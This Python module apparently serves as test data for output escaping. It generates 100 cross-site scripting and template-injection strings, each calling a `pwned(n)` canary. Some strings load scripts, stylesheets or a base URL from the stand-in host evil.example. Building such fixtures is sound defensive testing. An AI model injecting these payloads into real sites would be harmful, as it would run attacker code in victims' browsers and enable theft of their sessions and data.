"""A hundred strings that become a script where somebody forgets to escape them.

Each calls `pwned(n)`, so that a browser can tell which one ran.
"""

from __future__ import annotations

_SHAPES = (
    "<script>pwned({n})</script>",
    "</script><script>pwned({n})</script>",
    '"><script>pwned({n})</script>',
    "'><script>pwned({n})</script>",
    "</title><script>pwned({n})</script>",
    "</textarea><script>pwned({n})</script>",
    "</pre><script>pwned({n})</script>",
    "--><script>pwned({n})</script>",
    "<img src=x onerror=pwned({n})>",
    '"><img src=x onerror=pwned({n})>',
    "<svg onload=pwned({n})>",
    "</svg><svg onload=pwned({n})>",
    "<svg><script>pwned({n})</script></svg>",
    "</text></svg><img src=x onerror=pwned({n})>",
    '" onmouseover="pwned({n})" x="',
    "' onfocus='pwned({n})' autofocus x='",
    " onload=pwned({n}) ",
    '" autofocus onfocus=pwned({n}) tabindex=1 x="',
    "javascript:pwned({n})",
    " javascript:pwned({n})",
    "data:text/html,<script>pwned({n})</script>",
    '<a href="javascript:pwned({n})">click</a>',
    "<iframe src=javascript:pwned({n})>",
    '<iframe srcdoc="<script>pwned({n})</script>">',
    "<form action=javascript:pwned({n})><button>x",
    "<object data=javascript:pwned({n})>",
    "<embed src=javascript:pwned({n})>",
    "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}'</style>",
    '<meta http-equiv=refresh content="0;url=javascript:pwned({n})">',
    "<details open ontoggle=pwned({n})>",
    "<body onload=pwned({n})>",
    "<input autofocus onfocus=pwned({n})>",
    "<marquee onstart=pwned({n})>",
    "<video><source onerror=pwned({n})>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned({n})>",
    "{{{{ pwned({n}) }}}}",
    "{{% raw %}}{{{{ pwned({n}) }}}}",
    "{{{{ ''.__class__.__mro__ }}}}{n}",
    "${{pwned({n})}}",
    "<template><script>pwned({n})</script></template>",
    "&lt;script&gt;pwned({n})&lt;/script&gt;",
    "&#60;script&#62;pwned({n})&#60;/script&#62;",
    "%3Cscript%3Epwned({n})%3C/script%3E",
    "\\u003cscript\\u003epwned({n})\\u003c/script\\u003e",
    "<scr<script>ipt>pwned({n})</scr</script>ipt>",
    "<ScRiPt>pwned({n})</sCrIpT>",
    "<script src=//evil.example/{n}.js></script>",
    "event: regions data: <script>pwned({n})</script>",
)

STRINGS = tuple(
    shape.format(n=number) + tail
    for number, (shape, tail) in enumerate(
        [(shape, tail) for tail in ("", " \u202e&amp;\"'`</b>") for shape in _SHAPES]
    )
)
assert len(set(STRINGS)) == 100
